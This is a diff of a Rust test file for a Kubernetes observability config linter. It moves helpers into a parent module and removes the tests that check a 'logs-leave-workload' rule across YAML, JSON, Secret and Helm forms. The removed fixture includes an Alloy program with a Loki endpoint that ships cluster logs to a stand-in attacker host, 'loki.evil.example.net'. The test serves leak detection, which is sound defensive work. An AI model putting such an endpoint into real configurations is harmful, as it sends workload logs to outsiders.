@@ -1,59 +1,21 @@
-//! One planted leak in every form of input: always the same finding, each time at the place where it was typed.
-#![expect(clippy::unwrap_used, reason = "a test fails by a panic")]
-
-mod program;
+//! The forms in which inputs hold the program, and where the leak is found in each.
 
 use base64::Engine as _;
 use base64::engine::general_purpose::STANDARD;
-use program::Ran;
-use program::check;
-use program::folder;
-use program::indented;
-use program::only_place;
-use program::run;
 use serde_json::Value;
 use serde_json::json;
 
-/// Where the leak leads; what every form is searched for, since it occurs once.
-const EVIL: &str = "https://loki.evil.example.net/loki/api/v1/push";
-
-/// A collector's program that sends logs out. The leak is on line 17, column 10 (one tab is one character).
-const PROGRAM: &str = r#"// What: "quotes", 'apostrophes', back\slashes, ünïcode, # and : everywhere.
-discovery.kubernetes "pods" {
-	role = "pod"
-}
-
-loki.source.kubernetes "pods" {
-	targets    = discovery.kubernetes.pods.targets
-	forward_to = [loki.write.local.receiver]
-}
-
-loki.write "local" {
-	endpoint {
-		url = "http://loki-gateway.loki.svc.cluster.local/loki/api/v1/push"
-	}
-
-	endpoint {
-		url = "https://loki.evil.example.net/loki/api/v1/push"
-	}
-	external_labels = {"why" = "because: it's so long that whoever folds lines has to fold this one, more than once"}
-}
-"#;
-
-/// The leak in [`PROGRAM`].
-const INNER: (u64, u64) = (17, 10);
-
-const META: &str = "metadata:\n  name: alloy-config\n  namespace: alloy\n";
-
-/// A ConfigMap whose `config.alloy` is written like this.
-fn config_map(value: &str) -> String {
-    format!("apiVersion: v1\nkind: ConfigMap\n{META}data:\n  config.alloy: {value}\n")
-}
-
-/// [`PROGRAM`] as a literal block, indented below a key that is indented by `by`.
-fn literal(by: usize) -> String {
-    format!("|\n{}", indented(PROGRAM, by + 2).trim_end_matches('\n'))
-}
+use super::EVIL;
+use super::INNER;
+use super::META;
+use super::PROGRAM;
+use super::config_map;
+use super::config_map_json;
+use super::literal;
+use super::meaning;
+use super::program::check;
+use super::program::indented;
+use super::program::only_place;
 
 /// A YAML double-quoted scalar, folded at spaces from column 80 on, tabs escaped: how kubectl prints such texts.
 fn folded_quotes(text: &str, indent: usize) -> String {
@@ -89,39 +51,12 @@ fn single_quotes(text: &str, indent: usize) -> String {
     format!("'{}{}'", indented(&text, indent).trim_start(), " ".repeat(indent))
 }
 
-fn config_map_json() -> Value {
-    json!({
-        "apiVersion": "v1",
-        "data": {"config.alloy": PROGRAM},
-        "kind": "ConfigMap",
-        "metadata": {"name": "alloy-config", "namespace": "alloy"},
-    })
-}
-
-/// The leak's finding, without its places.
-fn meaning(finding: &Value) -> Value {
-    json!([finding["rule"], finding["message"], finding["severity"], finding["fingerprint"]])
-}
-
-/// What the leak is in the plainest form: a file by itself.
-fn plain() -> Value {
-    let found = check(&[("config.alloy", PROGRAM.as_bytes())]);
-    meaning(&the_leak(&found))
-}
-
-/// The one leak of a run that has no other.
-fn the_leak(found: &Ran) -> Value {
-    assert_eq!((found.code, found.errors()), (1, Vec::new()), "{}{}", found.stdout, found.stderr);
-    let leaks = found.findings("logs-leave-workload");
-    assert_eq!(leaks.len(), 1, "{}", found.stdout);
-    leaks.first().unwrap().clone()
-}
-
 /// What a form must come to.
-struct Form<'f> {
-    name: &'f str,
+pub(super) struct Form<'f> {
+    /// How failures name it.
+    pub(super) name: &'f str,
     path: &'f str,
-    text: String,
+    pub(super) text: String,
     /// Line and column in the file.
     outer: (u64, u64),
     object: Option<&'f str>,
@@ -144,7 +79,7 @@ impl<'f> Form<'f> {
     }
 
     /// What is not as it must be.
-    fn fault(&self, plain: &Value) -> Option<String> {
+    pub(super) fn fault(&self, plain: &Value) -> Option<String> {
         let found = check(&[(self.path, self.text.as_bytes())]);
         let leaks = found.findings("logs-leave-workload");
         let [leak] = &leaks[..] else {
@@ -174,14 +109,15 @@ impl<'f> Form<'f> {
     }
 }
 
-const CONFIG: &str = "ConfigMap alloy/alloy-config";
+pub(super) const CONFIG: &str = "ConfigMap alloy/alloy-config";
+
 const DATA: &str = "data.config.alloy";
 
 fn yaml(name: &str, text: String) -> Form<'_> {
     Form::new(name, "a.yaml", text)
 }
 
-fn programs_by_themselves() -> Vec<Form<'static>> {
+pub(super) fn programs_by_themselves() -> Vec<Form<'static>> {
     let text = || PROGRAM.to_owned();
     vec![
         Form::new("in a file of its own", "config.alloy", text()),
@@ -192,7 +128,7 @@ fn programs_by_themselves() -> Vec<Form<'static>> {
     ]
 }
 
-fn config_maps() -> Vec<Form<'static>> {
+pub(super) fn config_maps() -> Vec<Form<'static>> {
     // No line of a folded scalar may be moved further than the first, or it is not folded; tabs are characters here.
     let more_lines = PROGRAM.replace('\n', "\n\n").replace("\n\n\n\n", "\n\n\n").replace('\t', "");
     let spaces = PROGRAM.replace('\t', "");
@@ -268,7 +204,7 @@ fn config_maps() -> Vec<Form<'static>> {
     ]
 }
 
-fn json_forms() -> Vec<Form<'static>> {
+pub(super) fn json_forms() -> Vec<Form<'static>> {
     let json = |name, value: &Value, pretty: bool| {
         let text = if pretty { serde_json::to_string_pretty(value) } else { serde_json::to_string(value) };
         Form::new(name, "a.json", text.unwrap())
@@ -305,7 +241,7 @@ fn json_forms() -> Vec<Form<'static>> {
     ]
 }
 
-fn secrets() -> Vec<Form<'static>> {
+pub(super) fn secrets() -> Vec<Form<'static>> {
     let encoded = STANDARD.encode(PROGRAM);
     // Each three bytes stand in four characters: the place is the first of the four.
     let at = 4 * (PROGRAM.find(EVIL).unwrap() as u64 / 3);
@@ -342,13 +278,13 @@ fn secrets() -> Vec<Form<'static>> {
 }
 
 /// Values of the alloy chart, each line moved by `by`.
-fn values(by: usize) -> String {
+pub(super) fn values(by: usize) -> String {
     let text = format!("alloy:\n  configMap:\n    content: {}\n", literal(4));
     indented(&text, by)
 }
 
 #[expect(clippy::too_many_lines, reason = "one entry for each form")]
-fn releases() -> Vec<Form<'static>> {
+pub(super) fn releases() -> Vec<Form<'static>> {
     let chart = |kind: &str, spec: &str| {
         format!(
             "apiVersion: helm.cattle.io/v1\nkind: {kind}\nmetadata:\n  name: alloy\n  namespace: kube-system\nspec:\n{spec}"
@@ -465,202 +401,4 @@ fn releases() -> Vec<Form<'static>> {
         )
         .within(CONFIG, DATA),
     ]
-}
-
-#[test]
-fn the_same_leak_is_the_same_finding_in_every_form() {
-    let plain = plain();
-    let forms = [programs_by_themselves(), config_maps(), json_forms(), secrets(), releases()];
-    let faults: Vec<String> = forms.iter().flatten().filter_map(|form| form.fault(&plain)).collect();
-    assert!(faults.is_empty(), "{}", faults.join("\n"));
-}
-
-#[test]
-fn standard_input_is_recognised_by_its_content_whatever_its_name() {
-    let plain = plain();
-    let folder = folder(&[]);
-    let document = config_map(&literal(2));
-    let json = serde_json::to_string_pretty(&config_map_json()).unwrap();
-    let brackets = format!(
-        "{{apiVersion: v1, kind: ConfigMap, metadata: {{name: alloy-config}}, data: {{config.alloy: {}}}}}\n",
-        serde_json::to_string(PROGRAM).unwrap()
-    );
-    for (name, text) in
-        [("Alloy", PROGRAM), ("YAML", &document), ("JSON", &json), ("YAML in brackets", &brackets)]
-    {
-        for filename in [None, Some("config.alloy.txt"), Some("dir/a.conf"), Some("a.yaml")] {
-            let mut arguments = vec!["-o", "json"];
-            arguments.extend(filename.iter().flat_map(|filename| ["--stdin-filename", filename]));
-            arguments.push("-");
-            let leak = the_leak(&run(folder.path(), &arguments, Some(text.as_bytes())));
-            assert_eq!(meaning(&leak), plain, "{name} {filename:?}");
-            let (line, column) = only_place(text, EVIL);
-            let at = &leak["location"];
-            let expected = json!([filename.unwrap_or("<stdin>"), line, column]);
-            assert_eq!(json!([at["path"], at["line"], at["column"]]), expected, "{name} {filename:?}");
-        }
-    }
-}
-
-#[test]
-fn file_that_is_named_is_recognised_by_its_content_whatever_its_name() {
-    let folder =
-        folder(&[("config.txt", PROGRAM.as_bytes()), ("noextension", config_map(&literal(2)).as_bytes())]);
-    for (name, place) in [("config.txt", INNER), ("noextension", only_place(&config_map(&literal(2)), EVIL))]
-    {
-        let leak = the_leak(&run(folder.path(), &["-o", "json", name], None));
-        let at = &leak["location"];
-        assert_eq!(json!([at["path"], at["line"], at["column"]]), json!([name, place.0, place.1]));
-    }
-}
-
-#[test]
-fn several_forms_together_are_each_read() {
-    // The same ConfigMap as YAML, as JSON and in a List is one object and one leak; a release has a
-    // program of its own. The file beside the values holds the same program as they do: they are one.
-    let list = json!({"apiVersion": "v1", "kind": "List", "items": [config_map_json()]});
-    let release = releases().into_iter().find(|form| form.name == "HelmChart").unwrap().text;
-    let folder = folder(&[
-        ("one/a.yaml", config_map(&literal(2)).as_bytes()),
-        ("one/b.json", serde_json::to_string(&config_map_json()).unwrap().as_bytes()),
-        ("one/c.json", serde_json::to_string(&list).unwrap().as_bytes()),
-        ("two/values.yaml", values(0).as_bytes()),
-        ("three/chart.yaml", release.as_bytes()),
-        ("four/config.alloy", PROGRAM.as_bytes()),
-    ]);
-    let found = run(folder.path(), &["-o", "json", "one", "two", "three", "four"], None);
-    let mut leaks: Vec<Value> = found.findings("logs-leave-workload");
-    leaks.sort_by_key(|leak| leak["location"]["path"].as_str().unwrap().to_owned());
-    let paths: Vec<&str> = leaks.iter().map(|leak| leak["location"]["path"].as_str().unwrap()).collect();
-    assert_eq!(found.code, 1);
-    assert_eq!(paths, ["one/a.yaml", "three/chart.yaml", "two/values.yaml"]);
-    let plain = plain();
-    assert!(leaks.iter().all(|leak| meaning(leak) == plain), "{leaks:?}");
-}
-
-/// A document of each kind, with a finding that only that kind can have.
-const KINDS: [(&str, &str, &str, &str); 8] = [
-    ("alloy-values", "a.yaml", "alloy:\n  clustering:\n    enabled: true\n", "session-nodes-not-tolerated"),
-    (
-        "mimir-values",
-        "a.yaml",
-        "mimir:\n  structuredConfig:\n    multitenancy_enabled: false\n",
-        "metrics-kept-for-ever",
-    ),
-    ("loki-values", "a.yaml", "loki:\n  auth_enabled: false\n", "logs-kept-for-ever"),
-    (
-        "grafana-values",
-        "a.yaml",
-        "grafana.ini:\n  auth.anonymous:\n    enabled: true\n",
-        "anonymous-access-on",
-    ),
-    ("mimir", "a.yaml", "blocks_storage:\n  backend: s3\nlimits: {}\n", "metrics-kept-for-ever"),
-    ("loki", "a.yaml", "schema_config: {}\nlimits_config: {}\n", "logs-kept-for-ever"),
-    ("grafana-ini", "a.ini", "[auth.anonymous]\nenabled = true\n", "anonymous-access-on"),
-    ("alloy", "a.alloy", PROGRAM, "logs-leave-workload"),
-];
-
-#[test]
-fn each_kind_is_told_by_its_shape_and_by_kind() {
-    for (kind, path, text, rule) in KINDS {
-        let folder = folder(&[(path, text.as_bytes())]);
-        for arguments in [vec!["-o", "json", path], vec!["-o", "json", "--kind", kind, path]] {
-            let found = run(folder.path(), &arguments, None);
-            assert!(!found.findings(rule).is_empty(), "{arguments:?} {text} {}", found.stdout);
-            assert_eq!((found.errors(), found.passed_over()), (Vec::new(), Vec::new()), "{arguments:?}");
-        }
-    }
-    // What says nothing of itself is what it is said to be.
-    let folder = folder(&[("a.yaml", b"deploymentMode: SingleBinary\n")]);
-    assert_eq!(run(folder.path(), &["-o", "json", "a.yaml"], None).passed_over().len(), 1);
-    let said = run(folder.path(), &["-o", "json", "--kind", "loki-values", "a.yaml"], None);
-    assert!(
-        !said.findings("logs-kept-for-ever").is_empty() && said.passed_over().is_empty(),
-        "{}",
-        said.stdout
-    );
-    let said = run(folder.path(), &["-o", "json", "--kind", "manifests", "a.yaml"], None);
-    assert_eq!(
-        (said.code, said.errors()),
-        (2, vec!["a.yaml:1: object has neither `apiVersion` nor `kind`: add both, as in `apiVersion: v1` and `kind: ConfigMap`".to_owned()])
-    );
-}
-
-#[test]
-fn input_that_is_passed_over_keeps_no_promise() {
-    let found = check(&[("numbers.yaml", b"a: 1\n"), ("words.yaml", b"b: 2\n")]);
-    let report = found.report();
-    let verdicts = report["verdicts"].as_array().unwrap();
-    assert_eq!(verdicts.len(), 8);
-    for verdict in verdicts {
-        assert_eq!(verdict["verdict"], "not-applicable", "{verdict}");
-    }
-    assert_eq!(verdicts[7]["summary"], "nothing that is linted is in the input");
-
-    let found = check(&[
-        ("numbers.yaml", b"a: 1\n"),
-        ("pod.yaml", b"apiVersion: v1\nkind: Pod\nmetadata: {name: a}\n"),
-    ]);
-    let coherence = &found.report()["verdicts"][7];
-    assert_eq!((&coherence["verdict"], &coherence["summary"]), (&json!("holds"), &json!("2 documents read")));
-}
-
-#[test]
-fn configuration_in_config_maps_is_found_at_its_line() {
-    let object = |key: &str, text: &str| {
-        format!("apiVersion: v1\nkind: ConfigMap\n{META}data:\n  {key}: |\n{}", indented(text, 4))
-    };
-    for (key, text, rule, line, column, language) in [
-        ("grafana.ini", "[auth.anonymous]\nenabled = true\n", "anonymous-access-on", 9, 15, "ini"),
-        ("loki.yaml", "auth_enabled: true\nschema_config: {}\n", "loki-tenancy-on", 8, 19, "yaml"),
-        (
-            "datasources.yaml",
-            "apiVersion: 1\ndatasources:\n- name: Loki\n  type: loki\n  url: http://x\n",
-            "loki-data-source-elsewhere",
-            12,
-            12,
-            "yaml",
-        ),
-    ] {
-        let found = check(&[("a.yaml", object(key, text).as_bytes())]);
-        let finding = found.findings(rule);
-        let at = &finding.first().unwrap()["location"];
-        assert_eq!(json!([at["line"], at["column"], at["object"]]), json!([line, column, CONFIG]), "{key}");
-        let layer = json!([{"field": format!("data.{key}"), "language": language, "line": line - 7, "column": column - 4}]);
-        assert_eq!(at["layers"], layer, "{key}");
-    }
-}
-
-#[test]
-fn declarations_and_overrides_are_recognised_and_the_rest_is_passed_over_with_a_reason() {
-    let none = "recognised as none of: Kubernetes object, values of alloy, mimir-distributed, loki or grafana, Mimir or Loki configuration, data sources, Pulumi export, workload declaration (say which with --kind)";
-    let single = "a single value at the top level: no Kubernetes object, chart values or configuration";
-    let list = "a list at the top level: no Kubernetes object, chart values or configuration";
-    let found = check(&[
-        ("ptd.yaml", b"apiVersion: posit.team/v1\nkind: AWSWorkloadConfig\nspec: {}\n"),
-        ("site.yaml", b"apiVersion: core.posit.team/v1beta1\nkind: Site\nspec: {}\n"),
-        ("overrides.yaml", b"overrides:\n  tenant: {}\n"),
-        ("datasources.yaml", b"apiVersion: 1\ndatasources: []\n"),
-        ("x/comment.yaml", b"# nothing\n"),
-        ("x/list.json", b"[1]"),
-        ("x/map.yaml", b"a: 1\n---\napiVersion: v1\nkind: Namespace\nmetadata: {name: a}\n---\nb: 1\n"),
-        ("x/notes.md", b"# notes\n"),
-        ("x/null.json", b"null"),
-        ("x/words.yaml", b"some words\n"),
-    ]);
-    assert_eq!(found.errors(), Vec::<String>::new());
-    let mut passed = found.passed_over();
-    passed.sort();
-    assert_eq!(
-        passed,
-        [
-            "x/comment.yaml: holds no document".to_owned(),
-            format!("x/list.json: {list}"),
-            format!("x/map.yaml: the document at line 1: {none}"),
-            format!("x/map.yaml: the document at line 7: {none}"),
-            "x/notes.md: not a YAML, JSON, Alloy or INI file".to_owned(),
-            "x/null.json: holds no document".to_owned(),
-            format!("x/words.yaml: {single}"),
-        ]
-    );
 }
